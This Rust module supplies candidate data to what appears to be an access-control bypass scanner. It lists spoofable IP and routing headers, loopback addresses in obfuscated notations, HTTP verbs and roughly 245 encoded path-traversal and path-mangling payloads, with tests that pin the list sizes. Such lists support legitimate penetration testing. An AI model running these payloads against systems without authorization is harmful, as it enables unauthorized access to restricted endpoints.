//! Static candidate data feeding the variant generator.
//!
//! Read-only for the lifetime of the process. The lists are injected into
//! the generator as a [`CandidateLists`] value so generation stays a pure
//! function of `(base URL, lists)`.

/// The candidate lists a scan draws its variants from.
#[derive(Clone, Copy, Debug)]
pub struct CandidateLists {
    /// Client-identity / routing headers worth spoofing.
    pub header_keys: &'static [&'static str],
    /// Values to cross with `header_keys`: loopback in assorted notations,
    /// private ranges, a trusted public host.
    pub header_values: &'static [&'static str],
    /// HTTP verbs for the verb sweep. TRACK is non-standard on purpose.
    pub verbs: &'static [&'static str],
    /// Schemes for the scheme swap.
    pub schemes: &'static [&'static str],
    /// Path-mangling payloads appended to the original path. Entries are
    /// padded with spaces for readability and trimmed before use; the
    /// `${path}` token is replaced with the base path.
    pub url_payloads: &'static [&'static str],
}

impl CandidateLists {
    /// The built-in data set.
    pub fn builtin() -> CandidateLists {
        CandidateLists {
            header_keys: HEADER_KEYS,
            header_values: HEADER_VALUES,
            verbs: VERBS,
            schemes: SCHEMES,
            url_payloads: URL_PAYLOADS,
        }
    }
}

const HEADER_KEYS: &[&str] = &[
    "Base-Url",
    "CACHE_INFO",
    "CF_CONNECTING_IP",
    "CF-Conne",
    "CF-Connecting-IP",
    "CLIENT_IP",
    "Client-IP",
    "COMING_FROM",
    "CONNECT_VIA_IP",
    "Content-Length",
    "Destination",
    "FORWARD_FOR",
    "FORWARD-FOR",
    "FORWARDED_FOR_IP",
    "FORWARDED_FOR",
    "FORWARDED-FOR-IP",
    "FORWARDED-FOR",
    "FORWARDED",
    "From",
    "HTTP-CLIENT-IP",
    "HTTP-FORWARDED-FOR-IP",
    "HTTP-PC-REMOTE-ADDR",
    "HTTP-PROXY-CONNECTION",
    "Http-Url",
    "HTTP-VIA",
    "HTTP-X-FORWARDED-FOR-IP",
    "HTTP-X-IMFORWARDS",
    "HTTP-XROXY-CONNECTION",
    "PC_REMOTE_ADDR",
    "PRAGMA",
    "Profile",
    "PROXY_AUTHORIZATION",
    "PROXY_CONNECTION",
    "Proxy-Client-IP",
    "Proxy-Host",
    "Proxy-Url",
    "Proxy",
    "PROXY",
    "Real-Ip",
    "Redirect",
    "Referer",
    "Referrer",
    "REMOTE_ADDR",
    "Request-Uri",
    "Source-IP",
    "True-Client-IP",
    "Uri",
    "Url",
    "Via",
    "VIA",
    "WL-Proxy-Client-IP",
    "X_CLUSTER_CLIENT_IP",
    "X_COMING_FROM",
    "X_DELEGATE_REMOTE_HOST",
    "X_FORWARDED_FOR_IP",
    "X_FORWARDED_FOR",
    "X_FORWARDED",
    "X_IMFORWARDS",
    "X_LOCKING",
    "X_LOOKING",
    "X_REAL_IP",
    "X-Arbitrary",
    "X-Backend-Host",
    "X-BlueCoat-Via",
    "X-Cache-Info",
    "X-Client-IP",
    "X-Custom-IP-Authorization",
    "X-Forward-For",
    "X-Forwarded-By",
    "X-Forwarded-For-Original",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Proto",
    "X-Forwarded-Server",
    "X-Forwarded",
    "X-Forwarder-For",
    "X-Forwared-Host",
    "X-From-IP",
    "X-From",
    "X-Gateway-Host",
    "X-Hos",
    "X-Host",
    "X-Http-Destinationurl",
    "X-HTTP-DestinationURL",
    "X-Http-Host-Override",
    "X-Ip",
    "X-OReferrer",
    "X-Original-Host",
    "X-Original-IP",
    "X-Original-Remote-Addr",
    "X-Original-Url",
    "X-Original-URL",
    "X-Originally-Forwarded-For",
    "X-Originating-IP",
    "X-Override-URL",
    "X-Proxy-Url",
    "X-ProxyMesh-IP",
    "X-ProxyUser-Ip",
    "X-ProxyUser-IP",
    "X-Real-Ip",
    "X-Real-IP",
    "X-Remote-Addr",
    "X-Remote-IP",
    "X-rewrite-url",
    "X-Rewrite-URL",
    "X-True-Client-IP",
    "X-WAP-Profile",
    "XONNECTION",
    "XPROXY",
    "XROXY_CONNECTION",
    "Z-Forwarded-For",
    "ZCACHE_CONTROL",
];

const HEADER_VALUES: &[&str] = &[
    "127.0.0.1",
    "127.0.0.1, 127.0.0.1, 127.0.0.1",
    "127.0.0.1:80",
    "127.0.0.1:443",
    "127.0.0.1:8080",
    "localhost",
    "localhost:80",
    "localhost:443",
    "localhost:8080",
    "www.google.com",
    "/",
    "142.250.186.46",
    "0",
    "127.1",
    "2130706433",
    "0x7F000001",
    "0177.0000.0000.0001",
    "10.0.0.0",
    "172.16.0.0",
    "172.16.0.1",
    "192.168.1.0",
    "192.168.1.1",
];

const VERBS: &[&str] = &[
    "GET", "POST", "HEAD", "DELETE", "PUT", "PATCH", "OPTIONS", "TRACE", "TRACK",
];

const SCHEMES: &[&str] = &["http", "https"];

const URL_PAYLOADS: &[&str] = &[
    " ; ",
    " ;/.;. ",
    " ;/.. ",
    " ;/..; ",
    " ;/../ ",
    " ;/../;/ ",
    " ;/../;/../ ",
    " ;/../.;/../ ",
    " ;/../../ ",
    " ;/../..// ",
    " ;/.././../ ",
    " ;/..// ",
    " ;/..//../ ",
    " ;/../// ",
    " ;/..//%2e%2e/ ",
    " ;/..//%2f ",
    " ;/../%2f/ ",
    " ;/..%2f ",
    " ;/..%2f..%2f ",
    " ;/..%2f/ ",
    " ;/..%2f// ",
    " ;/..%2f%2f../ ",
    " ;/.%2e ",
    " ;/.%2e/%2e%2e/%2f ",
    " ;//.. ",
    " ;//../../ ",
    " ;///.. ",
    " ;///../ ",
    " ;///..// ",
    " ;//%2f../ ",
    " ;/%2e. ",
    " ;/%2e%2e ",
    " ;/%2e%2e/ ",
    " ;/%2e%2e%2f/ ",
    " ;/%2e%2e%2f%2f ",
    " ;/%2f/../ ",
    " ;/%2f/..%2f ",
    " ;/%2f%2f../ ",
    " ;%09 ",
    " ;%09; ",
    " ;%09.. ",
    " ;%09..; ",
    " ;%2f;/;/..;/ ",
    " ;%2f;//../ ",
    " ;%2f.. ",
    " ;%2F.. ",
    " ;%2f..;/;// ",
    " ;%2f..;//;/ ",
    " ;%2f..;/// ",
    " ;%2f../;/;/ ",
    " ;%2f../;/;/; ",
    " ;%2f../;// ",
    " ;%2f..//;/ ",
    " ;%2f..//;/; ",
    " ;%2f..//../ ",
    " ;%2f..//..%2f ",
    " ;%2f../// ",
    " ;%2f..///; ",
    " ;%2f../%2f../ ",
    " ;%2f../%2f..%2f ",
    " ;%2f..%2f..%2f%2f ",
    " ;%2f..%2f/ ",
    " ;%2f..%2f/../ ",
    " ;%2f..%2f/..%2f ",
    " ;%2f..%2f%2e%2e%2f%2f ",
    " ;%2f/;/..;/ ",
    " ;%2f/;/../ ",
    " ;%2f//..;/ ",
    " ;%2f//../ ",
    " ;%2f//..%2f ",
    " ;%2f/%2f../ ",
    " ;%2f%2e%2e ",
    " ;%2f%2e%2e%2f%2e%2e%2f%2f ",
    " ;%2f%2f/../ ",
    " ;${path}/ ",
    " ;x ",
    " ;x; ",
    " ;x/ ",
    " ? ",
    " ?? ",
    " ??? ",
    " .. ",
    " ..;/ ",
    " ..;\\ ",
    " ..;\\; ",
    " ..;%00/ ",
    " ..;%0d/ ",
    " ..;%ff/ ",
    " ../ ",
    " .././ ",
    " ../%2f ",
    " ..\\ ",
    " ..\\; ",
    " ..%00;/ ",
    " ..%00/ ",
    " ..%00/; ",
    " ..%09 ",
    " ..%0d ",
    " ..%0d;/ ",
    " ..%0d/ ",
    " ..%0d/; ",
    " ..%2f ",
    " ..%5c ",
    " ..%5c/ ",
    " ..%ff;/ ",
    " ..%ff/ ",
    " ..%ff/; ",
    " ./. ",
    " .//./ ",
    " .%2e/ ",
    " .html ",
    " .json ",
    " / ",
    " /;/ ",
    " /;// ",
    " /;x ",
    " /;x/ ",
    " /. ",
    " /.;/ ",
    " /.;// ",
    " /.. ",
    " /..;/ ",
    " /..;/;/ ",
    " /..;/;/..;/ ",
    " /..;/..;/ ",
    " /..;/../ ",
    " /..;// ",
    " /..;//..;/ ",
    " /..;//../ ",
    " /..;%2f ",
    " /..;%2f..;%2f ",
    " /..;%2f..;%2f..;%2f ",
    " /../ ",
    " /../;/ ",
    " /../;/../ ",
    " /../.;/../ ",
    " /../..;/ ",
    " /../../ ",
    " /../../../ ",
    " /../../..// ",
    " /../..// ",
    " /../..//../ ",
    " /.././../ ",
    " /..// ",
    " /..//..;/ ",
    " /..//../ ",
    " /..//../../ ",
    " /..%2f ",
    " /..%2f..%2f ",
    " /..%2f..%2f..%2f ",
    " /./ ",
    " /.// ",
    " /.randomstring ",
    " /* ",
    " /*/ ",
    " // ",
    " //;/ ",
    " //?anything ",
    " //. ",
    " //.;/ ",
    " //.. ",
    " //..; ",
    " //../../ ",
    " //./ ",
    " ///.. ",
    " ///..; ",
    " ///..;/ ",
    " ///..;// ",
    " ///../ ",
    " ///..// ",
    " //// ",
    " /%20# ",
    " /%20%23 ",
    " /%252e/ ",
    " /%252e%252e%252f/ ",
    " /%252e%252e%253b/ ",
    " /%252e%252f/ ",
    " /%252e%253b/ ",
    " /%252f ",
    " /%2e/ ",
    " /%2e// ",
    " /%2e%2e ",
    " /%2e%2e/ ",
    " /%2e%2e%3b/ ",
    " /%2e%2f/ ",
    " /%2e%3b/ ",
    " /%2e%3b// ",
    " /%2f ",
    " /%2f/ ",
    " /%3b/ ",
    " /x/;/..;/ ",
    " /x/;/../ ",
    " /x/..;/ ",
    " /x/..;/;/ ",
    " /x/..;// ",
    " /x/../ ",
    " /x/../;/ ",
    " /x/..// ",
    " /x//..;/ ",
    " /x//../ ",
    " \\..\\.\\ ",
    " & ",
    " # ",
    " #? ",
    " %09 ",
    " %09; ",
    " %09.. ",
    " %09%3b ",
    " %20 ",
    " %20/ ",
    " %20${path}%20/ ",
    " %23 ",
    " %23%3f ",
    " %252f/ ",
    " %252f%252f ",
    " %26 ",
    " %2e ",
    " %2e%2e ",
    " %2e%2e/ ",
    " %2e%2e%2f ",
    " %2f ",
    " %2f/ ",
    " %2f%20%23 ",
    " %2f%23 ",
    " %2f%2f ",
    " %2f%3b%2f ",
    " %2f%3b%2f%2f ",
    " %2f%3f ",
    " %2f%3f/ ",
    " %3b ",
    " %3b/.. ",
    " %3b//%2f../ ",
    " %3b/%2e. ",
    " %3b/%2e%2e/..%2f%2f ",
    " %3b/%2f%2f../ ",
    " %3b%09 ",
    " %3b%2f.. ",
    " %3b%2f%2e. ",
    " %3b%2f%2e%2e ",
    " %3b%2f%2e%2e%2f%2e%2e%2f%2f ",
    " %3f ",
    " %3f%23 ",
    " %3f%3f ",
    " + ",
    "%2e/${path} ",
];

#[cfg(test)]
mod tests {
    use super::*;

    // The closed-form candidate count in the generator tests is derived
    // from these sizes; pin them so a list edit is a conscious choice.
    #[test]
    fn list_sizes_are_pinned() {
        let lists = CandidateLists::builtin();
        assert_eq!(lists.header_keys.len(), 112);
        assert_eq!(lists.header_values.len(), 22);
        assert_eq!(lists.verbs.len(), 9);
        assert_eq!(lists.schemes.len(), 2);
        assert_eq!(lists.url_payloads.len(), 245);
    }

    #[test]
    fn payloads_trim_to_non_empty() {
        for payload in CandidateLists::builtin().url_payloads {
            assert!(!payload.trim().is_empty(), "blank payload entry");
        }
    }

    #[test]
    fn header_keys_are_bare_tokens() {
        for key in CandidateLists::builtin().header_keys {
            assert!(!key.contains(' '), "header key {:?} contains a space", key);
            assert!(!key.contains(':'), "header key {:?} contains a colon", key);
        }
    }
}
